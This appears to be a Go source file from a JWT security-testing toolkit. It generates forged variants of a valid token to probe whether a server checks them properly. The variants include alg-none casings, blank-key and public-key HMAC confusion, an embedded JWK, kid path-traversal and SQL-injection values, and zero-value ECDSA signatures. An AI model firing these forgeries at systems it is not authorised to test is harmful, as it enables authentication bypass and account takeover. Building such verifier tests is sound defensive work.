package token

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"hash"
	"math/big"
	"strings"
	"time"

	"github.com/jwtkit/jwtkit/pkg/keys"
)

// ErrForge is wrapped by every error of the forging functions.
var ErrForge = errors.New("cannot forge variant")

// Forged is one forged variant of a valid token: the compact token and a
// short label saying which single property was changed. The label never
// holds key material.
type Forged struct {
	Label string
	Token string
}

// Forger makes the forged variants pkg/probe sends: each changes one
// property of a valid token and keeps everything else. It splits the token
// leniently (it is the caller's own token) and verifies nothing. A Forger is
// safe for concurrent use.
type Forger struct {
	header     map[string]any
	claims     map[string]any
	headerSeg  string
	payloadSeg string
	sig        []byte
}

// NewForger splits raw (a compact JWS with a JSON object payload).
func NewForger(raw string) (*Forger, error) {
	parts := strings.Split(stripBearer(raw), ".")
	if len(parts) != 3 {
		return nil, fmt.Errorf("%w: want 3 segments, got %d", ErrForge, len(parts))
	}
	hb, err := base64.RawURLEncoding.DecodeString(parts[0])
	if err != nil {
		return nil, fmt.Errorf("%w: header: %v", ErrForge, err)
	}
	pb, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return nil, fmt.Errorf("%w: payload: %v", ErrForge, err)
	}
	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
	if err != nil {
		return nil, fmt.Errorf("%w: signature: %v", ErrForge, err)
	}
	f := &Forger{headerSeg: parts[0], payloadSeg: parts[1], sig: sig}
	if f.header, err = decodeObject(hb); err != nil {
		return nil, fmt.Errorf("%w: header: %v", ErrForge, err)
	}
	if f.claims, err = decodeObject(pb); err != nil {
		return nil, fmt.Errorf("%w: payload: %v", ErrForge, err)
	}
	return f, nil
}

// stripBearer removes surrounding space and a "Bearer " prefix; Forger does
// not depend on Clean so it can be used on its own.
func stripBearer(s string) string {
	s = strings.TrimSpace(s)
	if len(s) > 7 && strings.EqualFold(s[:7], "bearer ") {
		s = strings.TrimSpace(s[7:])
	}
	return s
}

func decodeObject(b []byte) (map[string]any, error) {
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		return nil, err
	}
	if m == nil {
		return nil, errors.New("not a JSON object")
	}
	return m, nil
}

// Alg is the valid token's alg.
func (f *Forger) Alg() string { s, _ := f.header["alg"].(string); return s }

// Header returns a copy of the valid token's header.
func (f *Forger) Header() map[string]any { return cloneMap(f.header) }

// Claims returns a copy of the valid token's claims.
func (f *Forger) Claims() map[string]any { return cloneMap(f.claims) }

func cloneMap(m map[string]any) map[string]any {
	b, _ := json.Marshal(m)
	c, _ := decodeObject(b)
	return c
}

func encodeSeg(m map[string]any) string {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(m) // maps of JSON-decoded values always encode
	return base64.RawURLEncoding.EncodeToString(bytes.TrimSuffix(buf.Bytes(), []byte("\n")))
}

// withHeader returns the header segment with the changes applied (nil
// deletes a member).
func (f *Forger) withHeader(changes map[string]any) string {
	h := cloneMap(f.header)
	for k, v := range changes {
		if v == nil {
			delete(h, k)
		} else {
			h[k] = v
		}
	}
	return encodeSeg(h)
}

// TamperedPayload changes sub (adding it when absent) and keeps the original
// signature: accepted only when the signature is never checked.
func (f *Forger) TamperedPayload() Forged {
	c := cloneMap(f.claims)
	sub, _ := c["sub"].(string)
	c["sub"] = sub + "-tampered"
	return Forged{Label: "sub changed, original signature kept", Token: f.headerSeg + "." + encodeSeg(c) + "." + base64.RawURLEncoding.EncodeToString(f.sig)}
}

// BadSignature flips bits in the first and last signature bytes (a broken
// signature of the right length).
func (f *Forger) BadSignature() Forged {
	s := bytes.Clone(f.sig)
	if len(s) == 0 {
		s = []byte("jwtkit-probe-bad-signature")
	} else {
		s[0] ^= 0x5a
		s[len(s)-1] ^= 0xa5
	}
	return Forged{Label: "signature bytes altered", Token: f.headerSeg + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(s)}
}

// NullSignature drops the signature and keeps the original alg
// ("header.payload."), the CVE-2020-28042 class.
func (f *Forger) NullSignature() Forged {
	return Forged{Label: fmt.Sprintf("empty signature, alg %q kept", f.Alg()), Token: f.headerSeg + "." + f.payloadSeg + "."}
}

// NoneCasings lists every casing of "none" (16 spellings), lower case first.
func NoneCasings() []string {
	out := make([]string, 0, 16)
	for i := range 16 {
		b := []byte("none")
		for j := range 4 {
			if i&(1<<j) != 0 {
				b[j] -= 'a' - 'A'
			}
		}
		out = append(out, string(b))
	}
	return out
}

// AlgNone returns the unsecured variants: alg set to every casing of
// "none" with an empty signature and the trailing dot, plus "none" keeping
// the original signature and "none" without a third segment.
func (f *Forger) AlgNone() []Forged {
	var out []Forged
	for _, n := range NoneCasings() {
		out = append(out, Forged{Label: fmt.Sprintf("alg %q, empty signature", n), Token: f.withHeader(map[string]any{"alg": n}) + "." + f.payloadSeg + "."})
	}
	h := f.withHeader(map[string]any{"alg": "none"})
	out = append(out,
		Forged{Label: `alg "none", original signature kept`, Token: h + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(f.sig)},
		Forged{Label: `alg "none", no signature segment`, Token: h + "." + f.payloadSeg},
	)
	return out
}

// BlankHMAC re-signs the token with HS256, HS384 and HS512 and an empty key
// (CVE-2019-20933 class).
func (f *Forger) BlankHMAC() []Forged {
	var out []Forged
	for _, alg := range []string{"HS256", "HS384", "HS512"} {
		out = append(out, f.hmacVariant(alg, nil, nil, fmt.Sprintf("%s with an empty key", alg)))
	}
	return out
}

func (f *Forger) hmacVariant(alg string, key []byte, extra map[string]any, label string) Forged {
	changes := map[string]any{"alg": alg}
	for k, v := range extra {
		changes[k] = v
	}
	input := f.withHeader(changes) + "." + f.payloadSeg
	mac := hmac.New(hmacHash(alg), key)
	mac.Write([]byte(input))
	return Forged{Label: label, Token: input + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))}
}

func hmacHash(alg string) func() hash.Hash {
	switch alg {
	case "HS384":
		return sha512.New384
	case "HS512":
		return sha512.New
	}
	return sha256.New
}

// KeyEncoding is one serialisation of a public key tried as an HMAC secret.
type KeyEncoding struct {
	Name  string
	Bytes []byte
}

// PublicKeyEncodings serialises pub the ways servers commonly hold it: SPKI
// PEM with and without the trailing newline, PKCS#1 PEM (RSA only), SPKI
// DER and JWK JSON (RFC 7638 member order).
func PublicKeyEncodings(pub crypto.PublicKey) ([]KeyEncoding, error) {
	der, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrForge, err)
	}
	spki := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	out := []KeyEncoding{
		{"SPKI PEM", spki},
		{"SPKI PEM without trailing newline", bytes.TrimSuffix(spki, []byte("\n"))},
	}
	if rk, ok := pub.(*rsa.PublicKey); ok {
		out = append(out, KeyEncoding{"PKCS#1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(rk)})})
	}
	out = append(out, KeyEncoding{"SPKI DER", der})
	jwk, err := publicJWK(pub)
	if err != nil {
		return nil, err
	}
	jb, _ := json.Marshal(jwk) // sorted keys: the RFC 7638 order
	out = append(out, KeyEncoding{"JWK JSON", jb})
	return out, nil
}

// publicJWK returns the public members of a key as a JWK object.
func publicJWK(pub crypto.PublicKey) (map[string]any, error) {
	switch k := pub.(type) {
	case *rsa.PublicKey:
		return map[string]any{"kty": "RSA", "n": base64.RawURLEncoding.EncodeToString(k.N.Bytes()), "e": base64.RawURLEncoding.EncodeToString(big.NewInt(int64(k.E)).Bytes())}, nil
	case *ecdsa.PublicKey:
		ecdh, err := k.ECDH()
		if err != nil {
			return nil, fmt.Errorf("%w: %v", ErrForge, err)
		}
		raw := ecdh.Bytes() // 0x04 || X || Y
		n := (len(raw) - 1) / 2
		return map[string]any{"kty": "EC", "crv": k.Curve.Params().Name, "x": base64.RawURLEncoding.EncodeToString(raw[1 : 1+n]), "y": base64.RawURLEncoding.EncodeToString(raw[1+n:])}, nil
	case ed25519.PublicKey:
		return map[string]any{"kty": "OKP", "crv": "Ed25519", "x": base64.RawURLEncoding.EncodeToString(k)}, nil
	}
	return nil, fmt.Errorf("%w: unsupported public key type %T", ErrForge, pub)
}

// KeyConfusion re-signs the token with HMAC using the asymmetric public key
// as the secret (RFC 8725 §2.1, CVE-2016-10555): HS256 with every encoding
// of PublicKeyEncodings, and HS384 and HS512 with the SPKI PEM.
func (f *Forger) KeyConfusion(pub crypto.PublicKey) ([]Forged, error) {
	encs, err := PublicKeyEncodings(pub)
	if err != nil {
		return nil, err
	}
	var out []Forged
	for _, e := range encs {
		out = append(out, f.hmacVariant("HS256", e.Bytes, nil, "HS256 keyed with the public key as "+e.Name))
	}
	for _, alg := range []string{"HS384", "HS512"} {
		out = append(out, f.hmacVariant(alg, encs[0].Bytes, nil, alg+" keyed with the public key as SPKI PEM"))
	}
	return out, nil
}

// EmbeddedJWK signs the token with a fresh key and puts that key's public
// half in the jwk header (CVE-2018-0114). The fresh key matches the token's
// alg family: RSA for RS*/PS* (and for HMAC tokens, as RS256), the same
// curve for ES*, Ed25519 for EdDSA.
func (f *Forger) EmbeddedJWK() (Forged, error) {
	alg := f.Alg()
	var priv crypto.Signer
	var err error
	switch {
	case strings.HasPrefix(alg, "ES"):
		curve := map[string]elliptic.Curve{"ES256": elliptic.P256(), "ES384": elliptic.P384(), "ES512": elliptic.P521()}[alg]
		if curve == nil {
			curve, alg = elliptic.P256(), "ES256"
		}
		priv, err = ecdsa.GenerateKey(curve, rand.Reader)
	case alg == "EdDSA":
		_, priv, err = ed25519.GenerateKey(rand.Reader)
	default:
		if !strings.HasPrefix(alg, "RS") && !strings.HasPrefix(alg, "PS") {
			alg = "RS256"
		}
		priv, err = rsa.GenerateKey(rand.Reader, 2048)
	}
	if err != nil {
		return Forged{}, fmt.Errorf("%w: generating the embedded key: %v", ErrForge, err)
	}
	jwk, err := publicJWK(priv.Public())
	if err != nil {
		return Forged{}, err
	}
	input := f.withHeader(map[string]any{"alg": alg, "jwk": jwk}) + "." + f.payloadSeg
	sig, err := signInput(alg, priv, input)
	if err != nil {
		return Forged{}, err
	}
	return Forged{Label: alg + " signed with a fresh key embedded in the jwk header", Token: input + "." + base64.RawURLEncoding.EncodeToString(sig)}, nil
}

// KIDInjection returns HS256 variants whose kid points a naive key lookup at
// a predictable key: path traversal to /dev/null and /dev/null itself with
// an empty key, and an SQL injection that selects "1" with the key "1".
func (f *Forger) KIDInjection() []Forged {
	return []Forged{
		f.hmacVariant("HS256", nil, map[string]any{"kid": "../../../../../../dev/null"}, `kid "../../../../../../dev/null", HS256 with an empty key`),
		f.hmacVariant("HS256", nil, map[string]any{"kid": "/dev/null"}, `kid "/dev/null", HS256 with an empty key`),
		f.hmacVariant("HS256", []byte("1"), map[string]any{"kid": "x' UNION SELECT '1';--"}, `kid "x' UNION SELECT '1';--", HS256 with the key "1"`),
	}
}

// PsychicSignature returns ECDSA variants with r = s = 0 (CVE-2022-21449):
// ES256, ES384 and ES512 with an all-zero JOSE signature, and the token's
// own alg with the DER form (MAYCAQACAQA). It returns nil for tokens that
// are not ES*.
func (f *Forger) PsychicSignature() []Forged {
	alg := f.Alg()
	if !strings.HasPrefix(alg, "ES") {
		return nil
	}
	var out []Forged
	for _, a := range []struct {
		alg  string
		size int
	}{{"ES256", 64}, {"ES384", 96}, {"ES512", 132}} {
		out = append(out, Forged{Label: a.alg + " with r = s = 0", Token: f.withHeader(map[string]any{"alg": a.alg}) + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(make([]byte, a.size))})
	}
	der := []byte{0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}
	out = append(out, Forged{Label: alg + " with r = s = 0 in DER form", Token: f.headerSeg + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(der)})
	return out
}

// Remint signs the token's claims again with the real key and the token's
// header after refreshing the time claims it has (iat and nbf to now, exp
// to now plus the token's original lifetime, 15 minutes when unknown) and
// then applying edit. It is the base of the claim-changing variants.
func (f *Forger) Remint(key *keys.Key, now time.Time, label string, edit func(claims map[string]any)) (Forged, error) {
	c := f.refreshed(now)
	if edit != nil {
		edit(c)
	}
	tok, err := signWith(key, f.Alg(), f.headerSeg, c)
	if err != nil {
		return Forged{}, err
	}
	return Forged{Label: label, Token: tok}, nil
}

func (f *Forger) refreshed(now time.Time) map[string]any {
	c := cloneMap(f.claims)
	ttl := 15 * time.Minute
	exp, okE := numeric(c["exp"])
	iat, okI := numeric(c["iat"])
	if okE && okI && exp > iat {
		ttl = time.Duration(exp-iat) * time.Second
	}
	n := now.Unix()
	if _, ok := c["iat"]; ok {
		c["iat"] = json.Number(fmt.Sprint(n))
	}
	if _, ok := c["nbf"]; ok {
		c["nbf"] = json.Number(fmt.Sprint(n))
	}
	if _, ok := c["exp"]; ok {
		c["exp"] = json.Number(fmt.Sprint(n + int64(ttl/time.Second)))
	}
	return c
}

func numeric(v any) (int64, bool) {
	n, ok := v.(json.Number)
	if !ok {
		return 0, false
	}
	if i, err := n.Int64(); err == nil {
		return i, true
	}
	fl, err := n.Float64()
	return int64(fl), err == nil
}

func unix(t time.Time) json.Number { return json.Number(fmt.Sprint(t.Unix())) }

// Refreshed re-signs the token unchanged apart from refreshed time claims:
// the control for the claim-changing variants.
func (f *Forger) Refreshed(key *keys.Key, now time.Time) (Forged, error) {
	return f.Remint(key, now, "time claims refreshed", nil)
}

// Expired re-signs the token with exp an hour in the past (iat two hours
// ago, nbf at iat when present).
func (f *Forger) Expired(key *keys.Key, now time.Time) (Forged, error) {
	return f.Remint(key, now, "exp one hour ago", func(c map[string]any) {
		c["exp"] = unix(now.Add(-time.Hour))
		if _, ok := c["iat"]; ok {
			c["iat"] = unix(now.Add(-2 * time.Hour))
		}
		if _, ok := c["nbf"]; ok {
			c["nbf"] = unix(now.Add(-2 * time.Hour))
		}
	})
}

// NotYetValid re-signs the token with nbf an hour in the future and exp
// moved past it by the token's lifetime.
func (f *Forger) NotYetValid(key *keys.Key, now time.Time) (Forged, error) {
	return f.Remint(key, now, "nbf one hour ahead", func(c map[string]any) {
		c["nbf"] = unix(now.Add(time.Hour))
		if e, ok := numeric(c["exp"]); ok {
			c["exp"] = json.Number(fmt.Sprint(e + 3600))
		}
	})
}

// WithoutExp re-signs the token without exp.
func (f *Forger) WithoutExp(key *keys.Key, now time.Time) (Forged, error) {
	return f.Remint(key, now, "exp removed", func(c map[string]any) { delete(c, "exp") })
}

// ForeignIssuer is the iss the wrong-issuer variant carries.
const ForeignIssuer = "https://evil.example"

// ForeignAudience is the aud the wrong-audience variant carries.
const ForeignAudience = "https://other-service.example"

// WrongIssuer re-signs the token with iss set to ForeignIssuer and, when the
// token has an iss, a second variant without it.
func (f *Forger) WrongIssuer(key *keys.Key, now time.Time) ([]Forged, error) {
	return f.replaceOrRemove(key, now, "iss", ForeignIssuer)
}

// WrongAudience re-signs the token with aud set to ForeignAudience and, when
// the token has an aud, a second variant without it.
func (f *Forger) WrongAudience(key *keys.Key, now time.Time) ([]Forged, error) {
	return f.replaceOrRemove(key, now, "aud", ForeignAudience)
}

func (f *Forger) replaceOrRemove(key *keys.Key, now time.Time, name, foreign string) ([]Forged, error) {
	v, err := f.Remint(key, now, fmt.Sprintf("%s %q", name, foreign), func(c map[string]any) { c[name] = foreign })
	if err != nil {
		return nil, err
	}
	out := []Forged{v}
	if _, ok := f.claims[name]; ok {
		v, err := f.Remint(key, now, name+" removed", func(c map[string]any) { delete(c, name) })
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}

// WithoutRoles re-signs the token with roles taken out of the (dotted)
// rolesClaim ("roles" when empty); the claim is removed when nothing is
// left in it.
func (f *Forger) WithoutRoles(key *keys.Key, now time.Time, rolesClaim string, roles []string) (Forged, error) {
	if rolesClaim == "" {
		rolesClaim = "roles"
	}
	label := fmt.Sprintf("%s without %s", rolesClaim, strings.Join(roles, ", "))
	return f.Remint(key, now, label, func(c map[string]any) {
		path := strings.Split(rolesClaim, ".")
		m := c
		for _, p := range path[:len(path)-1] {
			next, ok := m[p].(map[string]any)
			if !ok {
				return
			}
			m = next
		}
		last := path[len(path)-1]
		drop := map[string]bool{}
		for _, r := range roles {
			drop[r] = true
		}
		switch cur := m[last].(type) {
		case []any:
			var keep []any
			for _, r := range cur {
				if s, ok := r.(string); !ok || !drop[s] {
					keep = append(keep, r)
				}
			}
			if len(keep) == 0 {
				delete(m, last)
			} else {
				m[last] = keep
			}
		case string:
			var keep []string
			for _, r := range strings.Fields(cur) {
				if !drop[r] {
					keep = append(keep, r)
				}
			}
			if len(keep) == 0 {
				delete(m, last)
			} else {
				m[last] = strings.Join(keep, " ")
			}
		}
	})
}

// signWith signs claims under the given header segment's members with the
// real key. It uses the key's fields directly so forging needs nothing but
// the key material.
func signWith(key *keys.Key, alg, headerSeg string, claims map[string]any) (string, error) {
	if key == nil {
		return "", fmt.Errorf("%w: no signing key", ErrForge)
	}
	var k any
	switch {
	case key.Type == keys.Oct || len(key.Secret) > 0:
		k = key.Secret
	case key.Private != nil:
		k = key.Private
	default:
		return "", fmt.Errorf("%w: the key cannot sign (public key only)", ErrForge)
	}
	input := headerSeg + "." + encodeSeg(claims)
	sig, err := signInput(alg, k, input)
	if err != nil {
		return "", err
	}
	return input + "." + base64.RawURLEncoding.EncodeToString(sig), nil
}

// signInput computes a JWS signature over input.
func signInput(alg string, key any, input string) ([]byte, error) {
	hashFor := func(bits string) crypto.Hash {
		switch bits {
		case "384":
			return crypto.SHA384
		case "512":
			return crypto.SHA512
		}
		return crypto.SHA256
	}
	if len(alg) < 5 && alg != "EdDSA" {
		return nil, fmt.Errorf("%w: unsupported alg %q", ErrForge, alg)
	}
	switch {
	case strings.HasPrefix(alg, "HS"):
		secret, ok := key.([]byte)
		if !ok {
			return nil, fmt.Errorf("%w: %s needs an HMAC secret", ErrForge, alg)
		}
		mac := hmac.New(hmacHash(alg), secret)
		mac.Write([]byte(input))
		return mac.Sum(nil), nil
	case strings.HasPrefix(alg, "RS"), strings.HasPrefix(alg, "PS"):
		rk, ok := key.(*rsa.PrivateKey)
		if !ok {
			return nil, fmt.Errorf("%w: %s needs an RSA private key", ErrForge, alg)
		}
		h := hashFor(alg[2:])
		d := h.New()
		d.Write([]byte(input))
		if alg[0] == 'P' {
			return rsa.SignPSS(rand.Reader, rk, h, d.Sum(nil), &rsa.PSSOptions{SaltLength: rsa.PSSSaltLengthEqualsHash})
		}
		return rsa.SignPKCS1v15(rand.Reader, rk, h, d.Sum(nil))
	case strings.HasPrefix(alg, "ES"):
		ek, ok := key.(*ecdsa.PrivateKey)
		if !ok {
			return nil, fmt.Errorf("%w: %s needs an EC private key", ErrForge, alg)
		}
		h := hashFor(alg[2:])
		d := h.New()
		d.Write([]byte(input))
		r, s, err := ecdsa.Sign(rand.Reader, ek, d.Sum(nil))
		if err != nil {
			return nil, fmt.Errorf("%w: %v", ErrForge, err)
		}
		size := (ek.Curve.Params().BitSize + 7) / 8
		out := make([]byte, 2*size)
		r.FillBytes(out[:size])
		s.FillBytes(out[size:])
		return out, nil
	case alg == "EdDSA":
		ok, isEd := key.(ed25519.PrivateKey)
		if !isEd {
			return nil, fmt.Errorf("%w: EdDSA needs an Ed25519 private key", ErrForge)
		}
		return ed25519.Sign(ok, []byte(input)), nil
	}
	return nil, fmt.Errorf("%w: unsupported alg %q", ErrForge, alg)
}
